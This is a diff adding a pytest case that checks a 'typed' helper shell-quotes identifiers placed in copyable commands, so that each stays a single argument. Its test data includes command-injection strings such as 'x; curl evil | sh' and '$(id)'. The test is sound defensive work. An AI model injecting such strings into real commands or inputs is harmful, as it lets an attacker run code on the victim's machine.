@@ -1,12 +1,13 @@
 """Codes in words."""
 
 import re
+import shlex
 from pathlib import Path
 
 import pytest
 
 import milonga
-from milonga.outcomes.words import PIPELINE, SKIPPED, instant, sentence, why_skipped
+from milonga.outcomes.words import PIPELINE, SKIPPED, instant, sentence, typed, why_skipped
 
 DESTINATIONS = Path(milonga.__file__).parent / "destinations"
 
@@ -46,3 +47,20 @@ def test_a_sentence_ends_once(text: str, said: str) -> None:
 )
 def test_every_time_can_be_told(unix_ms: int, said: str) -> None:
     assert instant(unix_ms) == said
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("m-1", "m-1"),
+        ("7f3c.9:2", "7f3c.9:2"),
+        ("--all", "-- --all"),
+        ("x; curl evil | sh", "'x; curl evil | sh'"),
+        ("$(id)", "'$(id)'"),
+        ("it's", "'it'\"'\"'s'"),
+        ("", "''"),
+    ],
+)
+def test_an_id_in_a_command_to_copy_is_one_argument_and_nothing_to_the_shell(text: str, said: str) -> None:
+    assert typed(text) == said
+    assert [one for one in shlex.split(typed(text)) if one != "--"] == [text]
